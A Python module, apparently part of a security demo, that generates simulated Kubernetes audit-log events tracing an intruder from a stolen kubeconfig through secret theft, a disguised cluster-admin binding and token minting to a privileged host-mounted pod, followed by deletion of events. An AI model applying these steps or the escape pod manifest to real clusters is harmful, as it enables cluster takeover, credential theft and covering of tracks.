"""The intruder in the cluster: from a stolen kubeconfig to cluster-admin and out to the node."""

from demo.cast import (
    ATTACKER,
    BASTION_ADDRESS,
    CROSSPLANE_JTI,
    LEDGER,
    MINTED_JTI,
    ROGUE,
)
from demo.clock import MINUTE, SECOND, Dice, at
from demo.cluster import (
    KUBECTL_NEW,
    KUBECTL_OLD,
    Client,
    Json,
    account_user,
    audit_event,
    health_event,
)
from demo.cluster_clients import deployer

_NODE_HEALTH = "system:serviceaccount:kube-system:node-health"


def attack(dice: Dice) -> list[Json]:
    """Return the intruder's requests."""
    thief = deployer(dice, BASTION_ADDRESS, KUBECTL_OLD)
    return [
        *_probing(dice),
        *_looking(dice, thief),
        *_pod(dice, thief),
        *_power(dice, thief),
        *_outside(dice),
    ]


def _probing(dice: Dice) -> list[Json]:
    """Before anything else, the API server's public side is tried without a name."""
    nobody = Client(
        {"username": "system:anonymous", "groups": ["system:unauthenticated"]},
        ATTACKER,
        "curl/8.5.0",
        "",
    )
    events, time = [], at("18:40:11.204")
    for path in ("/", "/api", "/apis", "/openapi/v2", "/metrics"):
        events.append(health_event(dice, time, nobody, path, 403))
        time += dice.between(SECOND, 4 * SECOND)
    for resource, namespace in (
        ("namespaces", ""),
        ("nodes", ""),
        ("secrets", "kube-system"),
        ("pods", "default"),
        ("secrets", "default"),
        ("configmaps", "kube-system"),
        ("serviceaccounts", "default"),
    ):
        events.append(audit_event(dice, time, nobody, "list", resource, namespace, code=403))
        time += dice.between(SECOND, 5 * SECOND)
    return events


def _looking(dice: Dice, thief: Client) -> list[Json]:
    """What may I do, what is there, and every secret of six namespaces."""
    events = []
    rules = {
        "kind": "SelfSubjectRulesReview",
        "apiVersion": "authorization.k8s.io/v1",
        "spec": {"namespace": "default"},
    }
    events.append(
        audit_event(
            dice,
            at("19:34:07.551"),
            thief,
            "create",
            "selfsubjectrulesreviews",
            level="Request",
            request=rules,
        )
    )
    for second, resource in enumerate(
        ("namespaces", "nodes", "pods", "serviceaccounts", "clusterrolebindings", "clusterroles")
    ):
        events.append(
            audit_event(
                dice,
                at("19:34:40") + second * 9 * SECOND + 118_000,
                thief,
                "list",
                resource,
                query={"limit": 500},
            )
        )
    time = at("19:37:02.310")
    for namespace in (
        "payments",
        "staging",
        "kube-system",
        "monitoring",
        "ci",
        "crossplane-system",
    ):
        events.append(
            audit_event(dice, time, thief, "list", "secrets", namespace, query={"limit": 500})
        )
        time += dice.between(2 * SECOND, 7 * SECOND)
    wanted = (
        ("payments", "ledger-db"),
        ("payments", "ledger-signing-key"),
        ("payments", "stripe-webhook"),
        ("payments", "bank-sftp"),
        ("staging", "web-env"),
        ("staging", "search-env"),
        ("monitoring", "grafana-admin"),
        ("ci", "deployer-token"),
        ("ci", "registry-push"),
        ("crossplane-system", "aws-bootstrap"),
        ("kube-system", "bootstrap-token-a7f3c1"),
        ("payments", "smtp-relay"),
    )
    for namespace, name in wanted:
        events.append(audit_event(dice, time, thief, "get", "secrets", namespace, name))
        time += dice.between(SECOND, 6 * SECOND)
    return events


def _pod(dice: Dice, thief: Client) -> list[Json]:
    """A shell in the ledger: two stages of one request, as exec is long-running."""
    query = {
        "command": "sh",
        "container": LEDGER.container,
        "stdin": "true",
        "stdout": "true",
        "tty": "true",
    }
    audit_id, opened = dice.uuid(), at("19:47:12.486")
    shared: Json = {"query": query, "code": 101, "level": "Request", "audit_id": audit_id}
    where = ("create", "pods", LEDGER.namespace, LEDGER.name, "exec")
    got = audit_event(
        dice, at("19:46:30.017"), thief, "list", "pods", LEDGER.namespace, query={"limit": 500}
    )
    return [
        got,
        audit_event(
            dice, opened, thief, *where, stage="ResponseStarted", lasts_us=61_000, **shared
        ),
        audit_event(dice, opened, thief, *where, lasts_us=2 * MINUTE + 411_000, **shared),
    ]


def _power(dice: Dice, thief: Client) -> list[Json]:
    """A service account of one's own with cluster-admin, and a token for it."""
    name, namespace = ROGUE.account, ROGUE.namespace
    binding = {
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "node-health-metrics"},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "cluster-admin",
        },
        "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": namespace}],
    }
    account = {
        "kind": "ServiceAccount",
        "apiVersion": "v1",
        "metadata": {"name": name, "namespace": namespace},
    }
    manager = {"fieldManager": "kubectl-create"}
    return [
        audit_event(
            dice,
            at("20:00:21.915"),
            thief,
            "create",
            "serviceaccounts",
            namespace,
            name,
            query=manager,
            level="Request",
            request=account,
        ),
        audit_event(
            dice,
            at("20:01:04.208"),
            thief,
            "create",
            "clusterrolebindings",
            "",
            "node-health-metrics",
            query=manager,
            level="RequestResponse",
            request=binding,
            response=binding,
        ),
        audit_event(
            dice,
            at("20:02:33.640"),
            thief,
            "create",
            "serviceaccounts",
            namespace,
            name,
            "token",
            annotations={"authentication.kubernetes.io/issued-credential-id": f"JTI={MINTED_JTI}"},
        ),
    ]


def _outside(dice: Dice) -> list[Json]:
    """The minted token at work from the outside, with the newer kubectl."""
    user = account_user("kube-system", "node-health", dice)
    user["extra"] = {"authentication.kubernetes.io/credential-id": [f"JTI={MINTED_JTI}"]}
    reason = (
        'RBAC: allowed by ClusterRoleBinding "node-health-metrics" of ClusterRole "cluster-admin" '
        'to ServiceAccount "node-health/kube-system"'
    )
    admin = Client(user, ATTACKER, KUBECTL_NEW, reason)
    query = {
        "command": "/bin/sh",
        "container": ROGUE.container,
        "stdin": "true",
        "stdout": "true",
        "tty": "true",
    }
    audit_id, opened = dice.uuid(), at("20:08:12.166")
    shared: Json = {"query": query, "code": 101, "level": "Request", "audit_id": audit_id}
    where = ("get", "pods", ROGUE.namespace, ROGUE.name, "exec")
    events = [
        audit_event(
            dice,
            at("20:04:18.771"),
            admin,
            "create",
            "selfsubjectaccessreviews",
            level="Request",
            request={
                "kind": "SelfSubjectAccessReview",
                "apiVersion": "authorization.k8s.io/v1",
                "spec": {"resourceAttributes": {"verb": "*", "group": "*", "resource": "*"}},
            },
        ),
        audit_event(dice, at("20:05:02.330"), admin, "list", "nodes", query={"limit": 500}),
        audit_event(
            dice,
            at("20:06:27.904"),
            admin,
            "create",
            "pods",
            ROGUE.namespace,
            ROGUE.name,
            query={"fieldManager": "kubectl-client-side-apply", "fieldValidation": "Strict"},
            level="RequestResponse",
            request=_rogue(),
            response=_rogue(),
        ),
        audit_event(
            dice, opened, admin, *where, stage="ResponseStarted", lasts_us=48_000, **shared
        ),
        audit_event(dice, opened, admin, *where, lasts_us=8 * MINUTE, **shared),
    ]
    time = at("20:15:03.412")
    for namespace in ("payments", "kube-system", "staging"):
        events.append(audit_event(dice, time, admin, "deletecollection", "events", namespace))
        time += 2 * SECOND + 130_000
    for number in range(9):
        name = f"{(ROGUE if number % 2 else LEDGER).name}.{dice.hexes(16)}"
        events.append(
            audit_event(
                dice,
                time,
                admin,
                "delete",
                "events",
                "kube-system" if number % 2 else "payments",
                name,
            )
        )
        time += dice.between(200_000, 900_000)
    events.append(
        audit_event(
            dice,
            at("20:28:51.077"),
            admin,
            "create",
            "serviceaccounts",
            "crossplane-system",
            "provider-aws",
            "token",
            annotations={
                "authentication.kubernetes.io/issued-credential-id": f"JTI={CROSSPLANE_JTI}"
            },
        )
    )
    events.append(
        audit_event(dice, at("21:08:40.660"), admin, "delete", "pods", ROGUE.namespace, ROGUE.name)
    )
    return events


def _rogue() -> Json:
    return {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "name": ROGUE.name,
            "namespace": ROGUE.namespace,
            "labels": {"k8s-app": "node-health"},
        },
        "spec": {
            "nodeName": ROGUE.node.name,
            "hostNetwork": True,
            "hostPID": True,
            "serviceAccountName": ROGUE.account,
            "containers": [
                {
                    "name": ROGUE.container,
                    "image": f"{ROGUE.image}:3.20",
                    "command": ["sleep", "infinity"],
                    "securityContext": {"privileged": True},
                    "volumeMounts": [{"name": "host", "mountPath": "/host"}],
                }
            ],
            "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}],
            "tolerations": [{"operator": "Exists"}],
            "restartPolicy": "Always",
        },
    }
